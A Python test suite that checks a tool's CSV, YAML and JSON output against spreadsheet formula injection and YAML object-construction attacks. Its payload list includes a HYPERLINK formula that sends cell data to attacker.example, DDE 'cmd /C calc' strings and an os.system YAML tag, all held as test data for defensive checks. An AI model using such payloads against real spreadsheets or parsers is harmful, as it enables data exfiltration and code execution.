"""CSV that a spreadsheet would run: formulas that fetch, formulas that start programs."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from msgspec import Struct

from commands.output import Detail, Listing
from commands.output.csv_form import render
from commands.output.json_form import render as render_json
from commands.output.json_form import render_lines
from commands.output.yaml_form import render as render_yaml

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"order")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(A1)",  # noqa: RUF001
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
]
_RUN = set("=+-@\t\r\n＝＋－＠")  # noqa: RUF001


class Row(Struct):
    """A line with text, a number, and more inside."""

    text: str
    number: float
    count: int
    more: dict[str, str]


def shown(*texts: str, number: float = -1.5) -> Listing:
    rows = [Row(text=text, number=number, count=-3, more={"key": text}) for text in texts]
    return Listing(of=Row, items=rows, columns=(), empty="", identify=lambda row: row.text)


def cells(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula: by its first character, some after what has no width."""
    return cell[:1] in _RUN or cell.lstrip(" \u00a0\ufeff\u200b\x00")[:1] in _RUN


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_one_in_naive_csv_and_text_in_ours(formula: str) -> None:
    naive = io.StringIO()
    csv.writer(naive).writerow([formula])
    (cell,) = next(csv.reader(io.StringIO(naive.getvalue(), newline="")))
    assert runs(cell)
    (row,) = cells(render(shown(formula)))
    assert row["text"].startswith("'")
    assert not runs(row["text"])
    assert not runs(row["more"])


def test_a_number_stays_a_number_and_plain_text_stays_as_it_is() -> None:
    (row,) = cells(render(shown('4711-22 é ✓ a=b, c"d"')))
    assert row == {"text": '4711-22 é ✓ a=b, c"d"', "number": "-1.5", "count": "-3", "more": row["more"]}


def test_a_quote_in_the_text_opens_no_cell() -> None:
    """Text that ends its own cell would begin the next one with a formula."""
    evil = '","=1+1","'
    assert runs(f'"{evil}"'.split(",")[1].strip('"'))
    (row,) = cells(render(shown(evil)))
    assert row["text"] == evil
    evil = "a\r\n=1+1,b"
    (row,) = cells(render(shown(evil)))
    assert row["text"] == evil


def test_one_thing_is_as_safe_as_many() -> None:
    row = Row(text="=1+1", number=1, count=1, more={})
    (read,) = cells(render(Detail(value=row, human=lambda _: "", identify=lambda _: "")))
    assert read["text"] == "'=1+1"


@given(st.text(max_size=30), st.floats(allow_nan=False, allow_infinity=False))
def test_whatever_the_text_is_no_cell_of_it_runs(text: str, number: float) -> None:
    (row,) = cells(render(shown(text, number=number)))
    assert not runs(row["text"])
    assert not runs(row["more"])
    assert float(row["number"]) == number


@pytest.mark.parametrize("text", [*FORMULAS, "yes", "no", "null", "1e3", "- a", "!!python/object/apply:os.system [x]"])
def test_yaml_and_json_give_back_what_they_were_given(text: str) -> None:
    """In YAML the attack is a tag that builds an object, or a word that changes its type."""
    listing = shown(text)
    read: Any = yaml.safe_load(render_yaml(listing))
    assert read["items"][0]["text"] == text
    import json

    assert json.loads(render_json(listing))["items"][0]["text"] == text
    (line,) = render_lines(listing).splitlines()
    assert json.loads(line)["text"] == text


def test_yaml_that_builds_objects_is_what_a_naive_reader_would_run() -> None:
    evil = "!!python/object/apply:builtins.len [[1, 2, 3]]"
    assert yaml.unsafe_load(evil) == 3
    assert yaml.unsafe_load(render_yaml(shown(evil)))["items"][0]["text"] == evil
